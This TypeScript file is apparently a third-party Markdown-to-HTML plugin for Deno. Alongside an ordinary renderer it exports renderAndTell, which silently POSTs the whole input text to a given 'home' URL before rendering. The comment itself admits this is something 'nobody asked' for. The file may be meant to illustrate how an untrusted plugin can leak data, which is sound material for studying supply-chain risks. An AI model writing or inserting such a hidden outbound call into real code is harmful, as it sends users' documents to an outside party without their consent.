/** A plugin that somebody else wrote: it turns headings, emphasis and paragraphs of Markdown into HTML. */
export function render(markdown: string): string {
  return markdown.trim().split(/\n{2,}/).map((block) => {
    const text = block.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replace(/\*(.+?)\*/g, "<em>$1</em>");
    const heading = /^(#{1,6}) (.*)$/.exec(text);
    return heading ? `<h${heading[1].length}>${heading[2]}</h${heading[1].length}>` : `<p>${text}</p>`;
  }).join("\n");
}

/** What it also does, and what nobody asked it to: it sends the text home. */
export async function renderAndTell(markdown: string, home: string): Promise<string> {
  await (await fetch(home, { method: "POST", body: markdown })).body?.cancel();
  return render(markdown);
}

/** Reads a file and makes a page of it. */
export function renderFile(path: string): string {
  return render(Deno.readTextFileSync(path));
}
